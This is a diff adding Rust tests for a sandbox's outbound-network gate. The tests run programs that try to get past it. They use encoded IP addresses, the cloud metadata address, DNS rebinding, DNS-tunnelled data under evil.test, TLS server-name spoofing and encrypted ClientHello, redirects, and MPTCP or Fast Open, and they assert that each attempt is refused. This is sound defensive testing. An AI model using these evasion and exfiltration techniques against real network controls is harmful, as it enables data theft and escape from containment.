@@ -1,0 +1,389 @@
+//! Names, addresses and TLS: which connections get out.
+
+use crate::allow;
+use crate::sandbox::{Sandbox, users};
+use crate::world::{PUBLIC, World, capitals, server, tls_capitals};
+
+#[test]
+fn g108_direct_addresses_are_unreachable() {
+    for user in users() {
+        let program = r#"
+for address in ["1.1.1.1", "16843009", "0x1010101", "01.01.01.01", "2606:4700::1111", "10.255.255.53"]:
+    say(attempt(connect, address, 443))
+say(attempt(exchange, "0.0.0.0", 443))
+say(attempt(connect, "0.0.0.0", 444))
+say(attempt(exchange, "198.18.9.9", 443))
+"#;
+        let world = World::default();
+        let ended = Sandbox::start(*user, allow(&[]), world.clone(), program).finish();
+        let unreachable = ["ENETUNREACH"; 6];
+        let own_loopback = ["reset", "ECONNREFUSED", "reset"];
+        assert_eq!(
+            ended.lines(),
+            [&unreachable[..], &own_loopback].concat(),
+            "{user:?}"
+        );
+        assert!(world.dialled().is_empty());
+    }
+}
+
+#[test]
+fn g109_services_of_the_host_are_reached_only_through_host_ports() {
+    let service = capitals();
+    let port = service.port();
+    for user in users() {
+        let program = format!(
+            r#"
+say(attempt(exchange, "127.0.0.1", {port}))
+say(attempt(exchange, "localhost", {port}))
+say(attempt(connect, "169.254.169.254", 80))
+say(attempt(connect, "192.168.0.1", 80))
+"#
+        );
+        let closed = Sandbox::start(*user, allow(&[]), World::default(), &program).finish();
+        assert_eq!(
+            closed.lines(),
+            ["ECONNREFUSED", "ECONNREFUSED", "ENETUNREACH", "ENETUNREACH"]
+        );
+
+        let mut config = allow(&[]);
+        config.host_ports = vec![port];
+        let open = Sandbox::start(*user, config, World::default(), &program).finish();
+        assert_eq!(
+            open.lines(),
+            ["HELLO", "HELLO", "ENETUNREACH", "ENETUNREACH"]
+        );
+    }
+}
+
+#[test]
+fn g110_names_with_addresses_of_the_machine_or_its_network_are_refused() {
+    let addresses = [
+        "127.0.0.1",
+        "10.1.2.3",
+        "169.254.169.254",
+        "93.184.216.99",
+        "::ffff:127.0.0.1",
+        "64:ff9b::7f00:1",
+        "2002:7f00:1::1",
+    ];
+    let mut world = World::default().own("93.184.216.99");
+    for (number, address) in addresses.iter().enumerate() {
+        world = world.name(&format!("n{number}.test"), address);
+    }
+    let program = format!(
+        r#"
+for number in range({}): say(attempt(exchange, f"n{{number}}.test", 80))
+"#,
+        addresses.len()
+    );
+    for user in users() {
+        let ended = Sandbox::start(*user, allow(&["*.test"]), world.clone(), &program).finish();
+        assert_eq!(ended.lines(), ["reset"; 7]);
+        assert!(world.dialled().is_empty(), "{:?}", world.dialled());
+        let refused = ended.refused();
+        let listed: Vec<_> = refused
+            .iter()
+            .map(|(name, port, _, count)| (*name, *port, *count))
+            .collect();
+        let names: Vec<String> = (0..7).map(|number| format!("n{number}.test")).collect();
+        let expected: Vec<_> = names.iter().map(|name| (name.as_str(), 80, 1)).collect();
+        assert_eq!(listed, expected);
+        assert_eq!(
+            refused[1].2,
+            "the name resolves to 10.1.2.3, a private address"
+        );
+    }
+}
+
+#[test]
+fn g110_a_private_address_is_dialled_where_the_name_may_have_one() {
+    let world = World::default()
+        .name("registry.corp", "10.1.2.3")
+        .name("evil.corp", "10.1.2.4")
+        .server_at("10.1.2.3:80", capitals());
+    let mut config = allow(&["*.corp"]);
+    config.private = vec!["registry.corp:80".to_owned()];
+    let program = r#"
+say(attempt(exchange, "registry.corp", 80))
+say(attempt(exchange, "evil.corp", 80))
+"#;
+    let ended = Sandbox::start(users()[0], config, world.clone(), program).finish();
+    assert_eq!(ended.lines(), ["HELLO", "reset"]);
+    let dialled: Vec<String> = world.dialled().iter().map(ToString::to_string).collect();
+    assert_eq!(dialled, ["10.1.2.3:80"]);
+}
+
+#[test]
+fn g111_the_address_that_was_checked_is_dialled() {
+    let world = World::default()
+        .name("rebind.test", PUBLIC)
+        .name("rebind.test", "127.0.0.1")
+        .server(80, capitals());
+    let program = r#"
+say(attempt(exchange, "rebind.test", 80))
+say(attempt(exchange, "rebind.test", 80))
+"#;
+    let ended =
+        Sandbox::start(users()[0], allow(&["rebind.test"]), world.clone(), program).finish();
+    assert_eq!(ended.lines(), ["HELLO", "reset"]);
+    assert_eq!(
+        world.looked_up().len(),
+        2,
+        "one look-up for each connection"
+    );
+    assert_eq!(world.dialled().len(), 1);
+}
+
+#[test]
+fn g112_programs_reach_exactly_the_name_that_is_allowed() {
+    let world = World::default()
+        .name("allowed.test", PUBLIC)
+        .server(80, capitals());
+    let program = r#"
+for name in ["allowed.test", "ALLOWED.test", "allowed.test.", "allowed.test.evil.test", "evilallowed.test", "test",
+             "_allowed.test", "xn--allwed-4ua.test", "sub.allowed.test"]:
+    say(attempt(exchange, name, 80))
+"#;
+    for user in users() {
+        let ended =
+            Sandbox::start(*user, allow(&["allowed.test"]), world.clone(), program).finish();
+        let (good, bad) = (["HELLO"; 3], ["no such name"; 6]);
+        assert_eq!(ended.lines(), [&good[..], &bad].concat());
+        assert!(world.looked_up().iter().all(|name| name == "allowed.test"));
+    }
+}
+
+#[test]
+fn g114_no_query_leaves_whatever_is_asked() {
+    let world = World::default();
+    let program = r#"
+def query(name, kind, number=1):
+    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b".")) + b"\0"
+    return struct.pack(">HHHHHH", number & 0xffff, 0x100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)
+def ask(name, kind, number=1):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(query(name, kind, number), ("127.0.0.1", 53))
+    reply = s.recv(4096)
+    assert reply[:2] == struct.pack(">H", number & 0xffff)
+    return reply[3] & 15, struct.unpack(">H", reply[6:8])[0]
+data = ".".join(["d" * 60] * 3)
+for kind in [1, 28, 16, 10, 255, 65]:
+    say(kind, *ask("allowed.test", kind), *ask(data + ".evil.test", kind))
+say(sum(ask(f"n{n}.evil.test", 1, n)[0] == 3 for n in range(10000)))
+say(*ask("allowed.test", 1))
+with connect("127.0.0.1", 53) as s:
+    for name in ["allowed.test", "evil.test"]:
+        q = query(name, 1)
+        s.sendall(struct.pack(">H", len(q)) + q)
+        reply = s.recv(4096)
+        say(reply[5] & 15, struct.unpack(">H", reply[8:10])[0])
+"#;
+    let ended =
+        Sandbox::start(users()[0], allow(&["allowed.test"]), world.clone(), program).finish();
+    assert_eq!(
+        ended.lines(),
+        [
+            "1 0 1 3 0",
+            "28 0 0 3 0",
+            "16 0 0 3 0",
+            "10 0 0 3 0",
+            "255 0 0 3 0",
+            "65 0 0 3 0",
+            "10000",
+            "0 1",
+            "0 1",
+            "3 0",
+        ]
+    );
+    assert!(world.looked_up().is_empty());
+    let last = ended.refusals.last().expect("refusals");
+    assert!(last["left_out"].as_u64().expect("a count") > 9000, "{last}");
+}
+
+#[test]
+fn g115_other_resolvers_cannot_be_asked() {
+    let program = r#"
+def udp(address, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(b"x", (address, port))
+say(attempt(udp, "8.8.8.8", 53))
+say(attempt(connect, "8.8.8.8", 53))
+say(attempt(connect, "dns.google", 443))
+"#;
+    let ended = Sandbox::start(
+        users()[0],
+        allow(&["allowed.test"]),
+        World::default(),
+        program,
+    )
+    .finish();
+    assert_eq!(
+        ended.lines(),
+        ["ENETUNREACH", "ENETUNREACH", "no such name"]
+    );
+    assert_eq!(
+        ended.refused(),
+        [("dns.google", 0, "the name is not allowed", 2)]
+    );
+}
+
+#[test]
+fn g116_tls_on_port_443_must_name_the_server() {
+    let world = World::default()
+        .name("allowed.test", PUBLIC)
+        .server(443, tls_capitals())
+        .server(80, tls_capitals());
+    let program = r#"
+def first_bytes(port, text):
+    with connect("allowed.test", port) as s:
+        s.sendall(text)
+        return s.recv(100) or "closed"
+say(attempt(tls, "allowed.test", 443, "allowed.test"))
+say(attempt(tls, "allowed.test", 443, "evil.test"))
+say(attempt(tls, "allowed.test", 443, None))
+say(attempt(tls, "allowed.test", 80, "evil.test"))
+say(attempt(first_bytes, 443, b"GET / HTTP/1.1\r\n\r\n"))
+# Port 443 with a Host header that is not the server name: nothing inside TLS is seen.
+say(attempt(tls, "allowed.test", 443, "ALLOWED.test", b"host: other.test"))
+# A ClientHello with the extension of an encrypted one.
+name = b"\0\x0f\0\0\x0callowed.test"
+extensions = b"\0\0" + struct.pack(">H", len(name)) + name + b"\xfe\x0d\0\1\0"
+body = b"\3\3" + bytes(32) + b"\0\0\2\x13\1\1\0" + struct.pack(">H", len(extensions)) + extensions
+hello = b"\1\0" + struct.pack(">H", len(body)) + body
+say(attempt(first_bytes, 443, b"\x16\3\1" + struct.pack(">H", len(hello)) + hello))
+"#;
+    for user in users() {
+        let before = world.dialled().len();
+        let ended =
+            Sandbox::start(*user, allow(&["allowed.test"]), world.clone(), program).finish();
+        assert_eq!(
+            ended.lines(),
+            [
+                "HELLO",
+                "reset",
+                "reset",
+                "HELLO",
+                "reset",
+                "HOST: OTHER.TEST",
+                "reset"
+            ]
+        );
+        assert_eq!(
+            ended.refused(),
+            [
+                (
+                    "allowed.test",
+                    443,
+                    "TLS names another server, \"evil.test\"",
+                    1
+                ),
+                ("allowed.test", 443, "TLS without a server name", 1),
+                ("allowed.test", 443, "not TLS, which port 443 must carry", 1),
+                (
+                    "allowed.test",
+                    443,
+                    "TLS with an encrypted ClientHello, which hides the server name",
+                    1
+                ),
+            ]
+        );
+        assert_eq!(world.dialled().len() - before, 3);
+    }
+}
+
+#[test]
+fn g118_a_redirect_leads_to_a_name_that_is_judged_too() {
+    use std::io::{Read, Write};
+    let redirect = server(|mut stream| {
+        let _ = stream.read(&mut [0; 4096])?;
+        stream.write_all(
+            b"HTTP/1.1 302 Found\r\nLocation: http://evil.test/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
+        )
+    });
+    let world = World::default()
+        .name("allowed.test", PUBLIC)
+        .server(80, redirect);
+    let program = r#"
+curl = subprocess.run(["curl", "-sSL", "http://allowed.test/"], stderr=subprocess.PIPE, text=True)
+say(curl.returncode, curl.stderr.strip())
+"#;
+    let ended = Sandbox::start(users()[0], allow(&["allowed.test"]), world, program).finish();
+    assert_eq!(ended.text, "6 curl: (6) Could not resolve host: evil.test");
+    assert_eq!(ended.refused()[0].0, "evil.test");
+}
+
+#[test]
+fn g119_programs_reach_allowed_names_without_proxy_variables() {
+    use std::io::{Read, Write};
+    let web = server(|mut stream| {
+        let _ = stream.read(&mut [0; 4096])?;
+        stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nweb")
+    });
+    let ssh = server(|mut stream| stream.write_all(b"SSH-2.0-test\r\n"));
+    let world = World::default()
+        .name("allowed.test", PUBLIC)
+        .server(80, web)
+        .server(22, ssh)
+        .server(443, tls_capitals());
+    let program = r#"
+def run(*words): return subprocess.run(words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True).stdout.strip()
+say(run("curl", "-sS", "http://allowed.test/"))
+say(run("curl", "-sSk", "https://allowed.test/"))
+say(connect("allowed.test", 22).recv(100).decode().strip())
+if os.path.exists("/usr/bin/node"):
+    say(run("/usr/bin/node", "-e", "require('http').get('http://allowed.test/', r => r.pipe(process.stdout))"))
+else:
+    say("web")
+say([name for name in os.environ if "proxy" in name.lower()])
+"#;
+    let config = allow(&["allowed.test", "git@allowed.test"]);
+    for user in users() {
+        let ended = Sandbox::start(*user, config.clone(), world.clone(), program).finish();
+        assert_eq!(
+            ended.lines(),
+            ["web", "secret", "SSH-2.0-test", "web", "[]"],
+            "{user:?}"
+        );
+    }
+}
+
+#[test]
+fn g120_fast_open_and_mptcp_do_not_go_round_the_gate() {
+    let world = World::default()
+        .name("allowed.test", PUBLIC)
+        .server(80, capitals());
+    let program = r#"
+MPTCP, FASTOPEN = 262, 0x20000000
+def mptcp(address):
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, MPTCP)
+    s.connect(address); s.sendall(b"hello"); s.shutdown(socket.SHUT_WR)
+    return s.recv(100).decode()
+def fast_open(address):
+    s = socket.socket()
+    s.settimeout(None)
+    s.sendto(b"hello", FASTOPEN, address); s.shutdown(socket.SHUT_WR)
+    return s.recv(100).decode()
+allowed = socket.gethostbyname("allowed.test")
+for act in [mptcp, fast_open]:
+    say(attempt(act, (allowed, 80)) in ["HELLO", "EPROTONOSUPPORT", "ENOPROTOOPT"])
+    say(attempt(act, ("1.1.1.1", 80)) in ["ENETUNREACH", "EPROTONOSUPPORT", "ENOPROTOOPT"])
+def udp(kind, protocol):
+    s = socket.socket(socket.AF_INET, kind, protocol)
+    s.settimeout(0)
+    s.connect((allowed, 443)); s.send(b"quic"); return s.recv(10)
+say(attempt(udp, socket.SOCK_DGRAM, 0))
+"#;
+    let ended =
+        Sandbox::start(users()[0], allow(&["allowed.test"]), world.clone(), program).finish();
+    assert_eq!(
+        ended.lines(),
+        ["True", "True", "True", "True", "ECONNREFUSED"]
+    );
+    assert!(
+        world
+            .dialled()
+            .iter()
+            .all(|address| address.to_string() == format!("{PUBLIC}:80"))
+    );
+}
